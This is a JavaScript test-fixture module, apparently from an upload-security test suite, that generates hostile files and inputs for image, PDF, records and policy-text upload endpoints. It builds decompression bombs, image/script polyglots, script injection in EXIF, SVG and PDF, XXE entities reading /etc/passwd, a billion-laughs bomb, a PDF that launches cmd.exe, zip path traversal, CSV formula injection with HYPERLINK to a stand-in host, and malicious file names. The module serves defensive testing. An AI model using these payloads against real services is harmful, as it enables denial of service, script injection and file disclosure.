// Files that nobody should upload, made here: bombs, two kinds in one, cut off, of another kind than they say, with something
// inside. Each with its mark, so that it is found again where it came through.
import { deflateSync, gzipSync } from 'node:zlib';
import { picture } from './fill.mjs';
import { MARK } from './payloads.mjs';
import { crc32, png } from '../support/png.mjs';

const MIB = 1024 * 1024;
const SCRIPT = `<script>${MARK}()</script>`;
const bytes = (...parts) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))));

/** A JPEG of 8 × 8 grey points; `marks` are further segments before the picture, `size` what its head says. */
export function jpeg(marks = [], [width, height] = [8, 8]) {
    const segment = (kind, content) => bytes([0xff, kind, (content.length + 2) >> 8, (content.length + 2) & 255], content);
    const table = (kind) => segment(0xc4, bytes([kind, 1], Array(15).fill(0), [0]));
    return bytes(
        [0xff, 0xd8], ...marks.map(([kind, content]) => segment(kind, bytes(content))),
        segment(0xdb, bytes([0], Array(64).fill(1))), segment(0xc0, bytes([8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0])),
        table(0x00), table(0x10), segment(0xda, bytes([1, 1, 0, 0, 63, 0])), [0x3f, 0xff, 0xd9],
    );
}

/** EXIF with a description and an orientation. */
function exif(description) {
    const text = bytes(description, [0]);
    const head = Buffer.alloc(38);
    head.write('II*\0', 0, 'latin1');
    head.writeUInt32LE(8, 4);
    head.writeUInt16LE(2, 8);
    [[0x010e, 2, text.length, 38], [0x0112, 3, 1, 6]].forEach(([tag, type, count, value], at) => {
        head.writeUInt16LE(tag, 10 + at * 12);
        head.writeUInt16LE(type, 12 + at * 12);
        head.writeUInt32LE(count, 14 + at * 12);
        head.writeUInt32LE(value, 18 + at * 12);
    });
    return bytes('Exif\0\0', head, text);
}

/** A PDF of one empty page; `more` are further objects, `root` stands in its catalogue. */
export function pdf(root = '', more = []) {
    const objects = [`<< /Type /Catalog /Pages 2 0 R ${root} >>`, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>', ...more];
    let file = bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n');
    const places = objects.map((object, at) => {
        const place = file.length;
        file = bytes(file, `${at + 1} 0 obj\n`, object, '\nendobj\n');
        return place;
    });
    const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
    return bytes(file, `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`);
}

const stream = (dictionary, content) => bytes(`<< ${dictionary} /Length ${content.length} >>\nstream\n`, content, '\nendstream');

/** A zip with one file, not packed. */
function zip(name, content) {
    const [named, check] = [Buffer.from(name), crc32(content)];
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt32LE(check, 10);
    common.writeUInt32LE(content.length, 14);
    common.writeUInt32LE(content.length, 18);
    common.writeUInt16LE(named.length, 22);
    const local = bytes('PK\x03\x04', common, named, content);
    const central = bytes('PK\x01\x02', [20, 0], common, Buffer.alloc(14), named);
    const end = Buffer.alloc(22);
    end.write('PK\x05\x06', 0, 'latin1');
    end.writeUInt16LE(1, 8);
    end.writeUInt16LE(1, 10);
    end.writeUInt32LE(central.length, 12);
    end.writeUInt32LE(local.length, 16);
    return bytes(local, central, end);
}

/** A quarter of it where time is short: still more than is ever unpacked. */
const zeros = (mib) => Buffer.alloc(Math.ceil(process.env.ATTACK_SHORT === '1' ? mib / 4 : mib) * MIB);
const rows = ([width, height]) => deflateSync(Buffer.alloc((width + 1) * height), { level: 9 });
const good = picture(7);

/** By name; made when they are needed, for some are large while they are made. */
export const PICTURES = {
    'a picture': () => good,
    'a JPEG': () => jpeg(),
    'a PDF': () => pdf(),
    'nothing': () => Buffer.alloc(0),
    'one byte': () => bytes('x'),
    'PNG: its first bytes alone': () => good.subarray(0, 8),
    'PNG: half of it': () => good.subarray(0, good.length >> 1),
    'PNG: without its end': () => good.subarray(0, good.length - 12),
    'PNG: a false check sum': () => bytes(good.subarray(0, 29), [1, 2, 3, 4], good.subarray(33)),
    'PNG: 30 000 × 30 000': () => png([30_000, 30_000], rows([30, 30])),
    'PNG: 30 000 × 30 000, and all of it': () => png([30_000, 30_000], deflateSync(zeros(858), { level: 9 })),
    'PNG: 2³¹ × 2³¹': () => png([0x7fffffff, 0x7fffffff], rows([9, 9])),
    'PNG: 0 × 0': () => png([0, 0], rows([1, 1])),
    'PNG: 40 000 000 × 1': () => png([39_999_999, 1], deflateSync(Buffer.alloc(40_000_000))),
    'PNG: 6 300 × 6 300': () => png([6_300, 6_300], rows([6_300, 6_300])),
    'PNG: a small head and 400 MiB of points': () => png([60, 85], deflateSync(zeros(400), { level: 9 })),
    'PNG: 100 MiB of text': () => png([60, 85], rows([60, 85]), [['zTXt', bytes('Comment\0\0', deflateSync(zeros(100), { level: 9 }))]]),
    'PNG: 100 MiB of a profile': () => png([60, 85], rows([60, 85]), [['iCCP', bytes('x\0\0', deflateSync(zeros(100), { level: 9 }))]]),
    'PNG: 50 000 chunks': () => png([60, 85], rows([60, 85]), Array(50_000).fill(['tEXt', 'a\0b'])),
    'PNG: a script as text': () => png([60, 85], rows([60, 85]), [['tEXt', `Comment\0${SCRIPT}`], ['iTXt', `XML:com.adobe.xmp\0\0\0\0\0${SCRIPT}`]]),
    'PNG and a zip': () => bytes(good, zip('a.html', Buffer.from(SCRIPT))),
    'PNG and HTML': () => bytes(good, SCRIPT),
    'PNG and PHP': () => bytes(good, `<?php ${MARK}(); ?>`),
    'PNG: animated, without an end': () => png([60, 85], rows([60, 85]), [['acTL', [0x7f, 255, 255, 255, 0, 0, 0, 0]]]),
    'JPEG: 65 535 × 65 535': () => jpeg([], [65_535, 65_535]),
    'JPEG: half of it': () => jpeg().subarray(0, 90),
    'JPEG: a script in EXIF': () => jpeg([[0xe1, exif(SCRIPT)]]),
    'JPEG: a script as comment': () => jpeg([[0xfe, SCRIPT], [0xfe, `*/=${MARK}();/*`]]),
    'JPEG: EXIF that leads nowhere': () => jpeg([[0xe1, bytes('Exif\0\0II*\0', [255, 255, 255, 127])]]),
    'JPEG and HTML': () => bytes(jpeg(), SCRIPT),
    'JPEG and a zip': () => bytes(jpeg(), zip('../../a.html', Buffer.from(SCRIPT))),
    'JPEG that is JavaScript': () => bytes([0xff, 0xd8, 0xff, 0xe0], '/*', Buffer.alloc(0x2a2f), `*/=${MARK}();/*`, jpeg().subarray(2)),
    'WebP: cut off': () => bytes('RIFF\xff\xff\xff\x7fWEBPVP8 ', Buffer.alloc(40)),
    'WebP: of nothing': () => bytes('RIFF\x04\0\0\0WEBP'),
    'GIF that is JavaScript': () => bytes(`GIF89a/*`, Buffer.alloc(20), `*/=1;${MARK}()`),
    'BMP that is JavaScript': () => bytes(`BM/*`, Buffer.alloc(50), `*/=1;${MARK}()`),
    'SVG with a script': () => bytes(`<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}()">${SCRIPT}</svg>`),
    'SVG with an entity': () => bytes(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;${MARK}</svg>`),
    'a billion laughs': () => bytes(`<!DOCTYPE x [<!ENTITY a "${MARK}">${'bcdefghi'.split('').map((it, at) => `<!ENTITY ${it} "${`&${'abcdefgh'[at]};`.repeat(10)}">`).join('')}]><x>&i;</x>`),
    'HTML': () => bytes(`<!doctype html>${SCRIPT}`),
    'JavaScript': () => bytes(`${MARK}()`),
    'a program': () => bytes('\x7fELF', Buffer.alloc(200)),
    'a program for Windows': () => bytes('MZ', Buffer.alloc(200)),
    'a zip': () => zip('../../../tmp/a', Buffer.from(MARK)),
    'a zip of 300 MiB': () => bytes(zip('a', deflateSync(zeros(300), { level: 9 }))),
    'a gzip of 300 MiB': () => gzipSync(zeros(300), { level: 9 }),
    'a TIFF': () => bytes('II*\0', [8, 0, 0, 0, 255, 255]),
    'an icon': () => bytes([0, 0, 1, 0, 255, 255], Buffer.alloc(100)),
    'PDF: a script on opening': () => pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    'PDF: a script by another spelling': () => pdf('/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>'),
    'PDF: a program': () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    'PDF: a file inside': () => pdf('/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>', [stream('/Type /EmbeddedFile', Buffer.from(SCRIPT))]),
    'PDF: a form that is sent': () => pdf('', [`<< /S /SubmitForm /F (https://${MARK}.example) >>`]),
    'PDF: objects packed away': () => pdf('', [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from('9 0 << /S /JavaScript /JS (x) >>')))]),
    'PDF: packed twice': () => pdf('', [stream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(Buffer.from('9 0 << /S /JavaScript >>'))))]),
    'PDF: 400 MiB packed': () => pdf('', [stream('/Filter /FlateDecode', deflateSync(zeros(400), { level: 9 }))]),
    'PDF: 400 MiB of objects': () => pdf('', [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(zeros(400), { level: 9 }))]),
    'PDF: 20 000 streams': () => pdf('', Array(20_000).fill(stream('/Filter /FlateDecode', deflateSync(Buffer.from('x'))))),
    'PDF: locked': () => bytes(pdf().toString('latin1').replace('/Root', '/Encrypt 9 0 R /Root')),
    'PDF: half of it': () => pdf().subarray(0, 200),
    'PDF that is HTML': () => bytes('%PDF-1.7\n', `<!doctype html>${SCRIPT}\n`, pdf().subarray(9)),
    'PDF and HTML': () => bytes(pdf(), `<!doctype html>${SCRIPT}`),
    'PDF after HTML': () => bytes(`<!doctype html>${SCRIPT}`, pdf()),
    'PDF of 50 000 brackets': () => pdf(`/X ${'['.repeat(50_000)}`),
    '10 MiB and a byte': () => bytes(good, Buffer.alloc(10 * MIB)),
    '14 MiB': () => bytes(good, Buffer.alloc(14 * MIB)),
};

/** What is sent to the desk that takes files of records. */
export const RECORDS = {
    'nothing': () => Buffer.alloc(0),
    'one byte': () => bytes('x'),
    'a picture': () => good,
    'a gzip of 300 MiB': () => gzipSync(zeros(300), { level: 9 }),
    'a zip': () => zip('records.csv', Buffer.from(MARK)),
    'UTF-16': () => Buffer.from(`\ufeffnational-id,status\n1,${MARK}\n`, 'utf16le'),
    'no UTF-8': () => bytes('national-id,status\n\xff\xfe,\xc0\xaf\n'),
    'nulls': () => Buffer.alloc(MIB),
    'a line of 8 MiB': () => bytes('national-id,', 'x'.repeat(8 * MIB)),
    'a mark that is never closed': () => bytes('national-id,status\n"', `${MARK}\n`.repeat(200_000)),
    '200 000 columns': () => bytes(','.repeat(200_000), '\n', ','.repeat(200_000)),
    'the same column twice': () => bytes('national-id,national-id\n1,2\n'),
    'formulas': () => bytes(`national-id,status\n=1+1,@${MARK}\n`, `${'=HYPERLINK("https://zq9x.example"),\n'.repeat(50)}`),
    'HTML': () => bytes(SCRIPT),
    'NDJSON nested 100 000 deep': () => bytes('{"resourceType":"Immunization","x":', '['.repeat(100_000), '\n'),
    'NDJSON with a key twice': () => bytes('{"resourceType":"Immunization","resourceType":"Patient"}\n'),
    'NDJSON with numbers out of bounds': () => bytes('{"resourceType":"Immunization","status":1e99999}\n{"resourceType":-0.0e-0}\n'),
    'NDJSON of 100 000 empty objects': () => bytes('{}\n'.repeat(100_000)),
    'NDJSON with lone surrogates': () => bytes('{"resourceType":"\\ud800","status":"\\udfff"}\n'),
    'XML': () => bytes(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;${MARK}</x>`),
};

/** And to the one that takes a text of the policy. */
export const TEXTS = { ...RECORDS, 'a text of scripts': () => bytes(`Article 1 ${SCRIPT}\n${SCRIPT}\n`) };

/** Names of files, as a form gives them. */
export const NAMES = ['../../../../tmp/a.png', '..\\..\\a.png', `${MARK}.png\0.html`, `"; filename="a.html`, `${'a'.repeat(10_000)}.png`, '', '.', '/etc/passwd', 'a.png%0d%0aX: y', 'con.png', `<img src=x onerror=${MARK}()>.png`, 'ก.png', 'a.svg', 'a.html', 'a.php', '\u202egnp.exe'];
